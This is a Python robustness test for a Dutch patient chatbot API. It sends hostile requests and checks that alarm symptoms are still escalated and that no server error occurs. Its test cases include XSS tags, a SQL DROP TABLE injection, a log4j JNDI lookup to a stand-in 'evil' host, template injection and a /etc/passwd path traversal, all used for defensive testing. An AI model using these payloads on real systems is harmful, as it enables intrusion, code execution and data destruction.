"""`python -m bot hostile-inputs`: hostile requests against POST /api/chat, and what came back.

The project's own set (below, not patient messages): adversarial long texts, Rasa's command
syntax, control and invisible characters, HTML and injection strings, huge and malformed JSON,
wrong types, odd Unicode. Many carry an alarm inside. Required: no 5xx, and every alarm inside a
body the API reads (up to MAX_REQUEST_BYTES) escalated. tests/bot/test_hostile.py runs it on
the test stack.
"""
import argparse
import json
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import List

from bot.evaluation.cost import _fits_a_body, adversarial

FEVER = "ik heb sinds vanmiddag 39 graden koorts"
BLADDER = "ik kan sinds vanochtend niet meer plassen"
WEAK = "mijn rechterbeen is opeens helemaal slap"


@dataclass
class Case:
    name: str
    kind: str
    body: bytes
    alarm: bool = False  # an alarm is inside: the reply must escalate
    content_type: str = "application/json"


@dataclass
class Outcome:
    case: Case
    status: int
    escalated: bool
    seconds: float


@dataclass
class HostileReport:
    outcomes: List[Outcome] = field(default_factory=list)

    @property
    def server_errors(self) -> List[Outcome]:
        return [o for o in self.outcomes if o.status >= 500]

    @property
    def missed_alarms(self) -> List[Outcome]:
        return [o for o in self.outcomes if o.case.alarm and not o.escalated]

    @property
    def ok(self) -> bool:
        return not self.server_errors and not self.missed_alarms

    def lines(self) -> List[str]:
        alarms = [o for o in self.outcomes if o.case.alarm]
        by_kind = Counter(o.case.kind for o in self.outcomes)
        statuses = Counter(o.status for o in self.outcomes)
        slowest = max(self.outcomes, key=lambda o: o.seconds)
        out = [
            f"Hostile inputs: {len(self.outcomes)} requests ({', '.join(f'{k} {n}' for k, n in sorted(by_kind.items()))})",
            f"  statuses: {', '.join(f'{s}: {n}' for s, n in sorted(statuses.items()))}",
            f"  5xx: {len(self.server_errors)}",
            f"  alarms inside hostile input escalated: {len(alarms) - len(self.missed_alarms)} of {len(alarms)}",
            f"  slowest: {slowest.seconds * 1000:.0f} ms ({slowest.case.name})",
        ]
        out += [f"  5xx: {o.case.name} -> {o.status}" for o in self.server_errors]
        out += [f"  alarm not escalated: {o.case.name} (status {o.status})" for o in self.missed_alarms]
        out.append("  result: " + ("PASSED" if self.ok else "FAILED"))
        return out


def _json(value) -> bytes:
    return json.dumps(value).encode("utf-8")


def _text(text: str, **fields) -> bytes:
    return _json({"text": text, **fields})


def cases() -> List[Case]:
    out: List[Case] = []
    # adversarial long texts (bot/evaluation/cost.py), the alarm first so a cut keeps it
    for n, size in ((2_000, "2k"), (65_000, "64k")):
        for name, text in adversarial(n - len(FEVER) - 2).items():
            out.append(Case(f"{size} {name} + fever", "long", _text(_fits_a_body(FEVER + ". " + text)), alarm=True))
    out.append(Case("70 KB body (over MAX_REQUEST_BYTES)", "long", _text(FEVER + " " + "x" * 70_000)))  # 413 unread
    # Rasa's command syntax typed as text
    for command, alarm in (("/restart", False), ("/report_fever", False), ('/deny_symptom{"procedure":"hernia"}', False),
                           ("/affirm", False), (f"/restart {FEVER}", True), (f'/inform{{"procedure":"bloedpatch"}} {BLADDER}', True),
                           ("/" * 500, False), (f"/deny_symptom {WEAK}", True), ("/nlu_fallback", False), (f"  /stop   {BLADDER}", True)):
        out.append(Case(f"command {command[:40]!r}", "command", _text(command), alarm=alarm))
    # control and invisible characters
    for name, text in (("NUL inside", "ik heb 39\x00 graden koorts"), ("escape sequences", f"\x1b[31m{BLADDER}\x1b[0m"),
                       ("bell and backspace", f"{WEAK}\x07\x08\x08"), ("right-to-left override", f"\u202e{FEVER}"),
                       ("zero-width spaces in words", "ik heb 39 graden ko\u200borts"), ("soft hyphens", "ik kan niet meer plas\u00adsen"),
                       ("lone surrogate", f"{FEVER} \ud800"), ("CR only line breaks", f"hallo\r{BLADDER}\rgroet"),
                       ("byte order mark", f"\ufeff{WEAK}"), ("DEL characters", f"{FEVER}\x7f\x7f")):
        out.append(Case(f"control: {name}", "control", json.dumps({"text": text}).encode("utf-8", "surrogatepass"), alarm=True))
    # HTML, script and injection strings
    for name, text, alarm in (("script tag", f"<script>alert(1)</script> {FEVER}", True), ("bold tags", f"<b>{BLADDER}</b>", True),
                              ("img onerror", '<img src=x onerror="alert(1)">', False), ("iframe", f'<iframe src="//evil"></iframe>{WEAK}', True),
                              ("SQL", f"'; DROP TABLE messages; -- {FEVER}", True), ("Jinja", "{{ 7*7 }} {% include 'x' %}", False),
                              ("log4j", "${jndi:ldap://evil/a}", False), ("format string", f"%s%s%n%x {BLADDER}", True),
                              ("markdown link", f"[klik](javascript:alert(1)) {WEAK}", True), ("entities", f"&lt;b&gt; {FEVER} &#0;", True)):
        out.append(Case(f"html: {name}", "html", _text(text), alarm=alarm))
    # huge and malformed JSON
    deep = b'{"text": "hallo", "x": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"
    for name, body, alarm, ctype in (
        ("deeply nested arrays", deep, False, "application/json"),
        ("duplicate keys, the alarm last", b'{"text": "hallo", "text": "' + FEVER.encode() + b'"}', True, "application/json"),
        ("10,000 unknown fields", _json({"text": FEVER, **{f"f{i}": i for i in range(10_000)}}), False, "application/json"),
        ("a 60,000-character key", _json({"k" * 60_000: 1, "text": "hallo"}), False, "application/json"),
        ("number 1e400", b'{"text": "hallo", "conversation_id": 1e400}', False, "application/json"),
        ("NaN", b'{"text": NaN}', False, "application/json"),
        ("invalid UTF-8", b'{"text": "ik heb koorts \xff\xfe 39"}', False, "application/json"),
        ("BOM before the JSON", b"\xef\xbb\xbf" + _text(FEVER), True, "application/json"),
        ("empty body", b"", False, "application/json"),
        ("null", b"null", False, "application/json"),
        ("a list", _json([FEVER]), False, "application/json"),
        ("a bare string", _json(FEVER), False, "application/json"),
        ("text/plain", FEVER.encode(), False, "text/plain"),
        ("truncated JSON", b'{"text": "' + FEVER.encode(), False, "application/json"),
        ("10,000 escaped control characters", _text(FEVER + " " + "\u0007" * 10_000), True, "application/json"),
    ):
        out.append(Case(f"json: {name}", "json", body, alarm=alarm, content_type=ctype))
    # wrong types and odd fields
    for name, value, alarm in (("text a number", {"text": 39}, False), ("text true", {"text": True}, False), ("text null", {"text": None}, False),
                               ("text a list", {"text": [FEVER]}, False), ("text an object", {"text": {"nl": FEVER}}, False),
                               ("conversation id a number", {"text": FEVER, "conversation_id": 5}, False),
                               ("conversation id a path", {"text": FEVER, "conversation_id": "../../etc/passwd"}, False),
                               ("conversation id 10,000 characters", {"text": FEVER, "conversation_id": "a" * 10_000}, False),
                               ("procedure a number", {"text": FEVER, "procedure": 7}, False),
                               # an unknown treatment code is a portal error (422, README), like a wrong type
                               ("procedure unknown", {"text": FEVER, "procedure": "hartoperatie"}, False),
                               ("procedure 5,000 characters", {"text": FEVER, "procedure": "p" * 5_000}, False),
                               ("an extra field", {"text": FEVER, "admin": True}, False)):
        out.append(Case(f"types: {name}", "types", _json(value), alarm=alarm))
    # odd Unicode
    for name, text in (("emoji around", f"😱😱😱 {FEVER} 🔥🔥🔥"), ("full-width digits", "ik heb ３９ graden koorts"),
                       ("combining marks stacked", "".join(c + "\u0301\u0302\u0303" for c in "koorts") + " 39 graden"),
                       ("decomposed accents", "Ik kan niet meer plassen, e\u0301cht niet"), ("Arabic", "عندي حمى ٣٩ درجة"),
                       ("all capitals, no spaces", "IKHEBKOORTS39GRADEN EN IK KAN NIET MEER PLASSEN")):
        out.append(Case(f"unicode: {name}", "unicode", _text(text), alarm=True))
    return out


def run(base_url: str, secret: str) -> HostileReport:
    import httpx

    from bot import portal_tokens

    report = HostileReport()
    with httpx.Client(base_url=base_url, timeout=60) as http:
        for i, case in enumerate(cases()):
            token = portal_tokens.mint(f"hostile-{i}-{time.time_ns()}", secret, procedure="hernia")
            started = time.perf_counter()
            response = http.post("/api/chat", content=case.body,
                                 headers={"Content-Type": case.content_type, "Authorization": f"Bearer {token}"})
            seconds = time.perf_counter() - started
            try:
                escalated = response.status_code == 200 and response.json().get("escalation") is not None
            except ValueError:
                escalated = False
            report.outcomes.append(Outcome(case, response.status_code, escalated, seconds))
    return report


def _command(args: argparse.Namespace) -> int:
    from bot.evaluation.report import _api_channel

    with _api_channel(args.api_url, args.secret) as channel:
        report = run(str(channel.http.base_url), channel.secret)
    print("\n".join(report.lines()))
    return 0 if report.ok else 1


def add_parser(sub) -> None:
    parser = sub.add_parser("hostile-inputs", help="hostile requests to POST /api/chat: no 5xx, every alarm inside escalated?")
    parser.add_argument("--api-url", default=None, help="a running API (default: start a stack with the current model)")
    parser.add_argument("--secret", default=None, help="PORTAL_JWT_SECRET of the API given with --api-url")
    parser.set_defaults(func=_command)
